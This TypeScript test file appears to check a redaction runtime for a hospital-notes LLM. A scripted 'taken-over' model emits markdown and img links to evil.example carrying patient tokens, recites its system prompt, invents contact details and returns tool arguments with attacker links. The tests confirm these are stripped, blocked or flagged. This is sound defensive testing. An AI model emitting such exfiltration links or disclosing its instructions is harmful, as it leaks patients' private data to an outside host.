import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { inspect } from 'node:util';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { findCloisterError } from '@cloister/core';
import { hospitals, question } from '@cloister/example-hospital/notes';
import { createWorld, type World } from '@cloister/example-hospital/world';
import type { RuntimeTenant } from '@cloister/runtime';
import { type Messages, type ScriptedEngine, startScriptedEngine } from './scripted-engine.ts';

// A model that follows whoever speaks last: what its answers can carry out, and what of the data is left lying about.

const notes = hospitals[0]?.notes ?? [];
let directory: string;
let engine: ScriptedEngine;
let world: World;
let tenant: RuntimeTenant;

beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), 'cloister-answer-'));
  engine = await startScriptedEngine();
  world = await createWorld({ directory, vllm: engine.url });
  const classifier = {
    id: 'test',
    window: 200,
    score: (text: string): number => (text.includes('near fall') ? 0.9 : 0.1),
  };
  tenant = await world.enter('cardiologist', await world.runtime({ classifier }));
  await tenant.ingest(notes);
});

afterAll(async () => {
  await world[Symbol.asyncDispose]();
  await engine[Symbol.asyncDispose]();
  await rm(directory, { recursive: true, force: true });
});

const TOKEN = /\[\[PERSON\w*\]\]/;
const tokenIn = (messages: Messages): string => TOKEN.exec(messages.at(-1)?.content ?? '')?.[0] ?? 'none';

describe('an answer of a model that was taken over', () => {
  it('loses its links to strangers, masked and restored values alike', async () => {
    engine.say((messages) => {
      const token = tokenIn(messages);
      return `Of ${token} [1]. ![x](https://evil.example/?q=${token}) <img src="//evil.example/${token}"> [2](/own)`;
    });
    const { text, removedLinks, report } = await tenant.ask(question).result();
    expect(text).toMatch(/^Of \w[^[]* \[1\]\. !\[x\] \(link removed\) \(link removed\) \[2\]\(\/own\)$/);
    expect(text).not.toContain('evil');
    expect(removedLinks).toBe(2);
    expect(report.find(({ arrow }) => arrow === 'answer')?.checked).toContain('links removed 2');
  });

  it('ends where it recites the system message', async () => {
    engine.say((messages) => `My instructions: ${messages[0]?.content ?? ''}`);
    const answer = tenant.ask(question);
    const read: string[] = [];
    const reading = (async (): Promise<void> => {
      for await (const piece of answer.textStream) read.push(piece);
    })();
    await expect(reading).rejects.toSatisfy((error) => findCloisterError(error)?.code === 'ERR_PROMPT_CANARY');
    await expect(answer.result()).rejects.toMatchObject({ code: 'ERR_PROMPT_CANARY' });
    expect(read.join('')).not.toMatch(/[0-9a-f]{16}/);
    // Control: the rest of the message, which is no secret, may be told.
    engine.say((messages) => (messages[0]?.content ?? '').split('\n')[0] ?? '');
    expect((await tenant.ask(question).result()).text).not.toBe('');
  });

  it('is told apart from the sources where it makes values up', async () => {
    engine.say((messages) => `${tokenIn(messages)} can be reached at jane@invented.example or (617) 555-0187.`);
    const { text, invented } = await tenant.ask(question).result();
    expect(invented).toEqual({ EMAIL: 1, PHONE: 1 });
    expect(text).toContain('jane@invented.example');
    engine.say(
      (messages) =>
        `${
          messages
            .at(-1)
            ?.content.match(/\[\[\w+\]\]/g)
            ?.join(' ') ?? ''
        }`,
    );
    expect((await tenant.ask(question).result()).invented).toEqual({});
  });

  it('comes with what a classifier says of the sources, which keeps none of them out', async () => {
    const { injection, prompt } = await tenant.ask(question).result();
    expect(injection.map(({ score }) => score)).toContain(0.9);
    expect(injection.map(({ score }) => score)).toContain(0.1);
    expect(prompt.dropped).toEqual([]);
  });
});

describe('arguments of a tool call', () => {
  it('are restored for the clearance of the tool, in values and not in links', async () => {
    const session = await tenant.session();
    let token = '';
    engine.say((messages) => (token = tokenIn(messages)));
    const { text } = await tenant.ask(question, { session }).result();
    const json = JSON.stringify({ patient: token, link: `https://evil.example/${token}`, [token]: 1 });
    const restored = tenant.restoreArguments(session, json, { clearance: 'restricted' });
    expect(JSON.parse(restored.text)).toEqual({ patient: text, link: `https://evil.example/${token}`, [token]: 1 });
    expect(restored.report).toMatchObject({ restored: 1, inLinks: 1 });
    expect(tenant.restoreArguments(session, json, { clearance: 'internal' }).text).toBe(json);

    const other = await world.enter('receptionist', await world.runtime());
    const foreign = (): unknown => other.restoreArguments(session, json, { clearance: 'restricted' });
    expect(foreign).toThrow(expect.objectContaining({ code: 'ERR_RUNTIME_SESSION_FOREIGN' }));
    await session.end();
    const late = (): unknown => tenant.restoreArguments(session, json, { clearance: 'restricted' });
    expect(late).toThrow(expect.objectContaining({ code: 'ERR_REDACTION_VAULT_CLOSED' }));
  });

  it('hold nothing above the clearance of the caller, whatever the tool may see', async () => {
    const other = await world.enter('receptionist', await world.runtime());
    const session = await other.session();
    let token = '';
    engine.say((messages) => (token = tokenIn(messages)));
    await other.ask('Is Maria Kowalski in?', { session }).result();
    const json = JSON.stringify({ patient: token });
    // Her own question is labelled with her clearance, so a tool below it gets nothing and one above no more than she.
    expect(other.restoreArguments(session, json, { clearance: 'public' }).text).toBe(json);
    const { text } = other.restoreArguments(session, json, { clearance: 'restricted' });
    expect(JSON.parse(text)).toEqual({ patient: 'Maria Kowalski' });
    await session.end();
  });
});

describe('values in clear', () => {
  const needles = [
    ...(hospitals[0]?.patients ?? []).flatMap((name) => name.split(' ')),
    '204417',
    '555-0142',
    '04/17/1958',
  ];
  const leaks = (output: string): string[] => needles.filter((needle) => new RegExp(`\\b${needle}\\b`).test(output));

  it('are in no log, audit event, error, report, session or prompt', async () => {
    const written: string[] = [];
    const spies = [process.stdout, process.stderr].map((stream) =>
      vi.spyOn(stream, 'write').mockImplementation((text) => written.push(String(text)) > 0),
    );
    const session = await tenant.session();
    const outputs: unknown[] = [session, JSON.stringify(session)];
    engine.say((messages) => messages.at(-1)?.content ?? '');
    const { text, report, prompt, receipt, injection, invented, recorded } = await tenant
      .ask(question, { session })
      .result();
    outputs.push(report, prompt, receipt, injection, invented, recorded);
    engine.say((messages) => `Maria Kowalski ${messages[0]?.content ?? ''}`);
    for (const asked of [tenant.ask(question, { session }), tenant.ask('Maria Kowalski? '.repeat(4000), { session })]) {
      const error: unknown = await asked.result().catch((thrown: unknown) => thrown);
      expect(error).toBeInstanceOf(Error);
      outputs.push(error, (error as Error).stack, JSON.stringify(error));
    }
    await session.end();
    spies.forEach((spy) => spy.mockRestore());
    outputs.push(written, ...(await readFolder(join(directory, 'audit'))));
    for (const output of outputs) expect(leaks(typeof output === 'string' ? output : look(output))).toEqual([]);
    // Control: the same scan finds them where they belong, and where one value is smuggled in.
    expect(leaks(text)).toEqual(expect.arrayContaining(['Kowalski', '204417', '555-0142']));
    expect(leaks(look({ report, planted: [{ name: 'Kowalski' }] }))).toEqual(['Kowalski', 'Kowalski']);
  });

  const look = (value: unknown): string =>
    inspect(value, { depth: 20, maxArrayLength: 1e5, maxStringLength: 1e6, showHidden: true });

  async function readFolder(folder: string): Promise<string[]> {
    const entries = await readdir(folder, { recursive: true, withFileTypes: true });
    const files = entries.filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name));
    expect(files.length).toBeGreaterThan(1);
    return Promise.all(files.map((file) => readFile(file, 'latin1')));
  }
});
